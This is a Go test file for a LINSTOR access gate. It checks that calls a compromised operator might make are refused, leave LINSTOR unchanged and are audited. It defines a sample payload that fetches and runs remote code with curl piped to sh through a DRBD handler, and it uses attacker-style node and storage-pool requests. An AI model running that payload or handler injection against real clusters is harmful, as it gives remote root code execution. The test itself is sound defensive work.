// Package linstorgate_test tries, against the real LINSTOR gate (internal/linstorgate, an
// HTTPS server) in front of LINSTOR's stand-in (test/site/linstorsim, which accepts what
// LINSTOR accepts: DrbdOptions/Handlers/*, a node registration, a storage pool, the deletion of
// any replica), on a real API server (the gate's TokenReviews, the client Secret, the Nodes),
// the calls a compromised operator would make with its own token, and checks that each is
// refused, that LINSTOR is as it was, and that the refusal is in the gate's audit trail.
package linstorgate_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/spectrocloud/nodewright/internal/audit"
	"github.com/spectrocloud/nodewright/internal/linstor"
	"github.com/spectrocloud/nodewright/internal/linstorgate"
	"github.com/spectrocloud/nodewright/internal/linstorgate/linstorgatetest"
	"github.com/spectrocloud/nodewright/internal/testenv"
	"github.com/spectrocloud/nodewright/test/site/linstorsim"
)

var env = testenv.New()

func TestMain(m *testing.M) { os.Exit(env.Run(m)) }

// patience bounds every wait: only a stuck test reaches it.
const patience = 2 * time.Minute

const (
	handler = "DrbdOptions/Handlers/before-resync-target"
	// payload is what the handler would run as root on every node with the resource.
	payload = "/bin/sh -c 'curl -s http://203.0.113.7/x | sh'"
)

// site is LINSTOR holding pvc-1 on n1 (the original replica), n2 registered with room, the
// gate in front of it, and the operator's client of the gate, with the operator's token.
type site struct {
	sim    *linstorsim.Server
	gate   *linstorgatetest.Gate
	client *linstor.Client
	http   *http.Client
	token  string
}

func newSite(t *testing.T, registerNodes bool) *site {
	t.Helper()
	sim := linstorsim.Start(t, linstorsim.Options{TLS: true, SyncTime: 500 * time.Millisecond})
	must(t, sim.AddNode(linstorsim.Node{Name: "n1"}), sim.AddNode(linstorsim.Node{Name: "n2"}),
		sim.AddStoragePool(linstorsim.Pool{Node: "n1", Name: "thin", TotalKiB: 100 << 20, FreeKiB: 100 << 20}),
		sim.AddStoragePool(linstorsim.Pool{Node: "n2", Name: "thin", TotalKiB: 100 << 20, FreeKiB: 100 << 20}),
		sim.AddResourceGroup(linstorsim.Group{Name: "vm-disks", PlaceCount: 1, StoragePool: "thin"}),
		sim.AddResourceDefinition(linstorsim.Definition{Name: "pvc-1", Group: "vm-disks", SizesKiB: []int64{1 << 20}}),
		sim.AddResource(linstorsim.Resource{Definition: "pvc-1", Node: "n1", Pool: "thin"}))
	gate := linstorgatetest.Start(t, env, linstorgatetest.Options{URL: sim.URL, ClientSecret: sim.ClientSecret(), RegisterNodes: registerNodes})
	cfg := gate.Config()
	cfg.RequestTimeout = patience
	client, err := linstor.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	token, err := os.ReadFile(gate.TokenFile)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(gate.CA)
	hc := &http.Client{Timeout: patience, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}}}
	return &site{sim: sim, gate: gate, client: client, http: hc, token: string(token)}
}

func must(t *testing.T, errs ...error) {
	t.Helper()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
}

func ctxFor(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	t.Cleanup(cancel)
	return ctx
}

// call sends a request to the gate as golinstor would, with token (none when empty), and
// returns the status and the body.
func (s *site) call(t *testing.T, token, method, path, body string) (int, []byte) {
	t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req, err := http.NewRequestWithContext(ctxFor(t), method, s.gate.URL+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Accept", "application/json")
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := s.http.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer func() { _ = resp.Body.Close() }()
	out, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, out
}

// refused checks that the answer is the gate's refusal by rule, naming property, method and
// path, and returns it.
func refused(t *testing.T, status int, body []byte, wantStatus int, method, path, rule, property string) linstorgate.Refusal {
	t.Helper()
	var r linstorgate.Refusal
	if err := json.Unmarshal(body, &r); err != nil || status != wantStatus {
		t.Fatalf("%s %s answered %d %s; want %d and the gate's refusal", method, path, status, body, wantStatus)
	}
	if r.RefusedBy != linstorgate.Refused || r.Method != method || r.Path != path || r.Rule != rule || r.Property != property {
		t.Fatalf("%s %s: refusal %s; want by %s, rule %s, property %q", method, path, body, linstorgate.Refused, rule, property)
	}
	return r
}

// refusedByGate checks that a call of the operator's own client failed with the gate's 403
// naming rule and property.
func refusedByGate(t *testing.T, err error, rule, property string) {
	t.Helper()
	var lerr *linstor.Error
	if !errors.As(err, &lerr) || lerr.Status != http.StatusForbidden {
		t.Fatalf("the call: %v; want the gate's 403", err)
	}
	if !strings.Contains(err.Error(), "nodewright-linstor-gate refused") || !strings.Contains(err.Error(), "("+rule+")") ||
		(property != "" && !strings.Contains(err.Error(), property)) {
		t.Fatalf("the call: %v; want the gate's refusal by %s naming %q", err, rule, property)
	}
}

// audited checks that the gate's trail (verified with its key) records the refusal of method
// path by rule, with property, by actor.
func (s *site) audited(t *testing.T, actor, method, path, rule, property string) {
	t.Helper()
	for _, r := range s.gate.Records(t) {
		d := details(r)
		if r.Action == linstorgate.Action && r.To == linstorgate.ToRefused && r.Actor == actor && r.Reason == rule &&
			d["method"] == method && d["path"] == path && d["rule"] == rule && d["property"] == property {
			return
		}
	}
	t.Fatalf("the gate's audit trail has no refusal of %s %s by %s (property %q) for %s; it holds:\n%s", method, path, rule, property, actor, dump(s.gate.Records(t)))
}

func details(r audit.Record) map[string]string {
	out := map[string]string{}
	for _, d := range r.Details {
		out[d.Name] = d.Value
	}
	return out
}

func dump(rs []audit.Record) string {
	var out []string
	for _, r := range rs {
		data, _ := json.Marshal(r)
		out = append(out, string(data))
	}
	return strings.Join(out, "\n")
}

// unchanged fails the test unless LINSTOR holds what it held before.
func (s *site) unchanged(t *testing.T, before linstorsim.State) {
	t.Helper()
	if after := s.sim.State(); !reflect.DeepEqual(before, after) {
		t.Errorf("LINSTOR changed:\nbefore %+v\nafter  %+v", before, after)
	}
}

func (s *site) operator() string {
	return "system:serviceaccount:" + s.gate.Namespace + ":" + linstorgatetest.OperatorServiceAccount
}

// TestHandlerPropertiesRefused: a DRBD handler (run as root by drbdadm on every node of the
// resource) set with the operator's own client on a resource definition, a resource group
// and the controller, as a compromised operator would: each refused by the gate with a 403
// naming the property, LINSTOR unchanged, the refusal audited. LINSTOR (and its stand-in)
// would take each.
func TestHandlerPropertiesRefused(t *testing.T) {
	s := newSite(t, false)
	ctx := ctxFor(t)
	set := linstor.PropChange{Set: map[string]string{handler: payload}}
	before := s.sim.State()

	_, err := s.client.ModifyResourceDefinitionProps(ctx, "pvc-1", set)
	refusedByGate(t, err, linstorgate.ReasonOperationNotAllowed, "")
	s.audited(t, s.operator(), "PUT", "/v1/resource-definitions/pvc-1", linstorgate.ReasonOperationNotAllowed, "")

	_, err = s.client.ModifyResourceGroupProps(ctx, "vm-disks", set)
	refusedByGate(t, err, linstorgate.ReasonPropertyNotAllowed, handler)
	s.audited(t, s.operator(), "PUT", "/v1/resource-groups/vm-disks", linstorgate.ReasonPropertyNotAllowed, handler)

	_, err = s.client.ModifyControllerProps(ctx, set)
	refusedByGate(t, err, linstorgate.ReasonPropertyNotAllowed, handler)
	s.audited(t, s.operator(), "POST", "/v1/controller/properties", linstorgate.ReasonPropertyNotAllowed, handler)

	// The same, as the raw request: the answer is the gate's JSON.
	status, body := s.call(t, s.token, "PUT", "/v1/resource-groups/vm-disks", `{"override_props":{"`+handler+`":"`+payload+`"},"select_filter":{}}`)
	r := refused(t, status, body, http.StatusForbidden, "PUT", "/v1/resource-groups/vm-disks", linstorgate.ReasonPropertyNotAllowed, handler)
	if !strings.Contains(r.Message, handler) {
		t.Errorf("the refusal's message %q does not name the property", r.Message)
	}
	s.unchanged(t, before)
}

// TestNodeRegistrationRefused: a satellite of the attacker's own registered, so that replicas
// can be placed on it. Without --register-nodes every registration is refused; with it, one
// under a name that is no Kubernetes Node, and one of a Node at another address than its
// InternalIP. A Node's satellite at its InternalIP is registered (what the upgrade does).
func TestNodeRegistrationRefused(t *testing.T) {
	node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "gate-n3"}}
	must(t, env.Client.Create(context.Background(), node))
	t.Cleanup(func() { _ = env.Client.Delete(context.Background(), node) })
	node.Status.Addresses = []corev1.NodeAddress{{Type: corev1.NodeInternalIP, Address: "10.77.0.3"}}
	must(t, env.Client.Status().Update(context.Background(), node))

	t.Run("off", func(t *testing.T) {
		s := newSite(t, false)
		before := s.sim.State()
		err := s.client.RegisterNode(ctxFor(t), linstor.Satellite{Name: "gate-n3", Address: "10.77.0.3"})
		refusedByGate(t, err, linstorgate.ReasonNodeRegistrationOff, "")
		s.audited(t, s.operator(), "POST", "/v1/nodes", linstorgate.ReasonNodeRegistrationOff, "")
		s.unchanged(t, before)
	})
	t.Run("on", func(t *testing.T) {
		s := newSite(t, true)
		s.sim.AddSatellite("gate-n3", "10.77.0.3")
		before := s.sim.State()
		err := s.client.RegisterNode(ctxFor(t), linstor.Satellite{Name: "evil-satellite", Address: "203.0.113.7"})
		refusedByGate(t, err, linstorgate.ReasonNotAKubernetesNode, "")
		s.audited(t, s.operator(), "POST", "/v1/nodes", linstorgate.ReasonNotAKubernetesNode, "name")
		err = s.client.RegisterNode(ctxFor(t), linstor.Satellite{Name: "gate-n3", Address: "203.0.113.7"})
		refusedByGate(t, err, linstorgate.ReasonNotTheNodesAddress, "10.77.0.3")
		s.audited(t, s.operator(), "POST", "/v1/nodes", linstorgate.ReasonNotTheNodesAddress, "net_interfaces[0].address")
		s.unchanged(t, before)

		if err := s.client.RegisterNode(ctxFor(t), linstor.Satellite{Name: "gate-n3", Address: "10.77.0.3"}); err != nil {
			t.Fatalf("registering the Node's satellite at its InternalIP: %v", err)
		}
		if n, ok := s.sim.State().Nodes["gate-n3"]; !ok || !n.Online {
			t.Errorf("gate-n3 registered: %t, %+v", ok, n)
		}
	})
}

// TestStoragePoolWriteRefused: a storage pool created on a node (a FILE_THIN pool over /etc)
// and an existing one repointed (its volume group), as a compromised operator would: refused.
func TestStoragePoolWriteRefused(t *testing.T) {
	s := newSite(t, false)
	before := s.sim.State()
	for _, c := range []struct{ method, path, body string }{
		{"POST", "/v1/nodes/n1/storage-pools", `{"storage_pool_name":"evil","provider_kind":"FILE_THIN","props":{"StorDriver/FileDir":"/etc"}}`},
		{"PUT", "/v1/nodes/n1/storage-pools/thin", `{"override_props":{"StorDriver/LvmVg":"root"}}`},
	} {
		status, body := s.call(t, s.token, c.method, c.path, c.body)
		refused(t, status, body, http.StatusForbidden, c.method, c.path, linstorgate.ReasonOperationNotAllowed, "")
		s.audited(t, s.operator(), c.method, c.path, linstorgate.ReasonOperationNotAllowed, "")
	}
	s.unchanged(t, before)
}

// TestOriginalReplicaNotDeleted: the deletion of the original replica (which the gate did not
// create), and of the gate's own replica while it may hold the only whole copy, refused; the
// gate's replica is deleted once the original is UpToDate again, and deleting it again asks
// LINSTOR nothing.
func TestOriginalReplicaNotDeleted(t *testing.T) {
	s := newSite(t, false)
	ctx := ctxFor(t)
	const original = "/v1/resource-definitions/pvc-1/resources/n1"
	before := s.sim.State()
	status, body := s.call(t, s.token, "DELETE", original, "")
	refused(t, status, body, http.StatusForbidden, "DELETE", original, linstorgate.ReasonNotPlacedByTheGate, linstor.GateStampProp)
	s.audited(t, s.operator(), "DELETE", original, linstorgate.ReasonNotPlacedByTheGate, linstor.GateStampProp)
	// The whole definition, and every replica at once through the group: not forwarded.
	status, body = s.call(t, s.token, "DELETE", "/v1/resource-definitions/pvc-1", "")
	refused(t, status, body, http.StatusForbidden, "DELETE", "/v1/resource-definitions/pvc-1", linstorgate.ReasonOperationNotAllowed, "")
	s.unchanged(t, before)

	// The gate's own replica on n2, in sync; the original's satellite goes away: the replica
	// on n2 may be the only whole copy.
	must(t, s.client.PlaceReplica(ctx, "pvc-1", "n2", "thin"))
	if got := s.sim.State().Resources["pvc-1/n2"].Props[linstor.GateStampProp]; got != linstor.GateStampValue {
		t.Fatalf("the gate placed a replica without its stamp (%q)", got)
	}
	deadline := time.Now().Add(patience)
	for {
		rs, err := s.client.Resources(ctx, linstor.ResourceFilter{Definitions: []string{"pvc-1"}, Nodes: []string{"n2"}})
		must(t, err)
		if len(rs) == 1 && rs[0].UpToDate() {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the replica on n2 is not UpToDate: %+v", rs)
		}
		time.Sleep(50 * time.Millisecond)
	}
	must(t, s.sim.SetOnline("n1", false))
	const added = "/v1/resource-definitions/pvc-1/resources/n2"
	status, body = s.call(t, s.token, "DELETE", added, "")
	refused(t, status, body, http.StatusForbidden, "DELETE", added, linstorgate.ReasonLastCopy, "")
	s.audited(t, s.operator(), "DELETE", added, linstorgate.ReasonLastCopy, "")
	if _, ok := s.sim.State().Resources["pvc-1/n2"]; !ok {
		t.Fatal("the replica on n2 is gone")
	}
	must(t, s.sim.SetOnline("n1", true))
	must(t, s.client.DeleteAddedReplica(ctx, linstor.AddedReplica{Definition: "pvc-1", Node: "n2", Original: "n1"}))
	if _, ok := s.sim.State().Resources["pvc-1/n2"]; ok {
		t.Error("the gate's replica on n2 was not deleted once the original was UpToDate")
	}
	if _, ok := s.sim.State().Resources["pvc-1/n1"]; !ok {
		t.Error("the original replica is gone")
	}
	// A deletion of what is not there is answered as LINSTOR answers it, a warning, without
	// asking LINSTOR: a resource created there in between would not be the gate's.
	asked := s.sim.Requests()["resourceDelete"]
	status, body = s.call(t, s.token, "DELETE", added, "")
	if status != http.StatusOK || !strings.Contains(string(body), "not found") {
		t.Errorf("deleting a resource that is not there: %d %s", status, body)
	}
	if n := s.sim.Requests()["resourceDelete"]; n != asked {
		t.Errorf("LINSTOR was asked to delete what the gate found absent (%d deletions, %d before)", n, asked)
	}
}

// TestOnlyTheOperatorsToken: a request without a token, with another ServiceAccount's token,
// with the operator's token for another audience (the API server's), with the operator's
// token not bound to a pod, or with a made-up token, is refused and audited; LINSTOR is not
// asked. The operator's projected token is served.
func TestOnlyTheOperatorsToken(t *testing.T) {
	s := newSite(t, false)
	const path = "/v1/resource-groups/vm-disks"
	const body = `{"select_filter":{"place_count":2}}`
	intruder := "system:serviceaccount:" + s.gate.Namespace + ":intruder"
	cases := []struct {
		name, token  string
		status       int
		rule, actor  string
		messageNames string
	}{
		{"no token", "", http.StatusUnauthorized, linstorgate.ReasonUnauthenticated, "unauthenticated", "no bearer token"},
		{"another ServiceAccount", s.gate.Token(t, "intruder", linstorgate.DefaultAudience, true), http.StatusForbidden, linstorgate.ReasonNotTheOperator, intruder, intruder},
		{"the API server's audience", s.gate.Token(t, linstorgatetest.OperatorServiceAccount, "", true), http.StatusUnauthorized, linstorgate.ReasonUnauthenticated, "unauthenticated", linstorgate.DefaultAudience},
		{"not bound to a pod", s.gate.Token(t, linstorgatetest.OperatorServiceAccount, linstorgate.DefaultAudience, false), http.StatusForbidden, linstorgate.ReasonNotTheOperator, s.operator(), "not bound to a pod"},
		{"made up", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQifQ.c2lnbmF0dXJl", http.StatusUnauthorized, linstorgate.ReasonUnauthenticated, "unauthenticated", "not valid"},
	}
	before := s.sim.State()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			status, out := s.call(t, c.token, "PUT", path, body)
			r := refused(t, status, out, c.status, "PUT", path, c.rule, "")
			if !strings.Contains(r.Message, c.messageNames) {
				t.Errorf("the refusal %q does not say %q", r.Message, c.messageNames)
			}
			s.audited(t, c.actor, "PUT", path, c.rule, "")
		})
	}
	s.unchanged(t, before)
	if n := s.sim.Requests()["resourceGroupModify"]; n != 0 {
		t.Errorf("LINSTOR was asked %d resource group modifies", n)
	}
	// The operator's own token, from its file: served.
	status, out := s.call(t, s.token, "PUT", path, body)
	if status != http.StatusOK {
		t.Fatalf("the operator's request: %d %s", status, out)
	}
	if pc := s.sim.State().Groups["vm-disks"].SelectFilter["place_count"]; jsonOf(pc) != "2" {
		t.Errorf("place count %v after the operator's request, want 2", pc)
	}
	// A forwarded change is audited too, with the body the gate sent.
	found := false
	for _, r := range s.gate.Records(t) {
		if r.To == linstorgate.ToForwarded && r.Actor == s.operator() && details(r)["body"] == `{"select_filter":{"place_count":2}}` {
			found = true
		}
	}
	if !found {
		t.Errorf("the forwarded change is not in the gate's audit trail:\n%s", dump(s.gate.Records(t)))
	}
}

func jsonOf(v any) string {
	data, _ := json.Marshal(v)
	return string(data)
}
